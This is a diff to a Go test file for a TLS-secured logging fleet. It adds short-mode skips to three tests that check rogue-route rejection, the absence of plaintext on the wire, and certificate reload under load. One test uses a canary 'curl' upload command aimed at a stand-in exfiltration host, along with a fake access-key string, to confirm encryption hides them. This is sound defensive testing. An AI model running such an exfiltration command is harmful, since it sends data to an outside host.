@@ -135,6 +135,9 @@ func appendTLSN(t *testing.T, c *client.Client, prefix string, n int) {
 // (the measured attack: a plain server joined and got the raw ingest
 // requests). A client without the fleet CA gets no connection.
 func TestFleetTLSRogueRoute(t *testing.T) {
+	if testing.Short() {
+		t.Skip("starts 3-node clusters")
+	}
 	logs := &logSink{}
 	nodes := startFleetWith(t, 3, func(c *Config) { c.Logger = slog.New(logs.handler()) })
 	if nodes[0].TLS() == nil {
@@ -279,6 +282,9 @@ func (r *recorder) bytes() []byte {
 // it, nor a subject name, is anywhere in the bytes. The same fleet in
 // the lab mode (no TLS) shows them all: the capture sees what it must.
 func TestFleetTLSNoPlaintext(t *testing.T) {
+	if testing.Short() {
+		t.Skip("starts 3-node clusters")
+	}
 	const command, secret = "curl -s https://exfil.example/upload-marker-7f3a", "AKIAQ3EGVP7ZLRX4TCJQ"
 	known := []string{command, secret, "vigil.ingest.agent", "vigil.log.", "upload-marker-7f3a"}
 	for _, tc := range []struct {
@@ -353,6 +359,9 @@ func TestFleetTLSNoPlaintext(t *testing.T) {
 // get the new certificate, no route or client connection drops, and
 // every acknowledged event is in the log exactly once.
 func TestFleetTLSReloadUnderLoad(t *testing.T) {
+	if testing.Short() {
+		t.Skip("starts 3-node clusters")
+	}
 	nodes := startFleet(t, 3)
 	var urls []string
 	for _, s := range nodes {
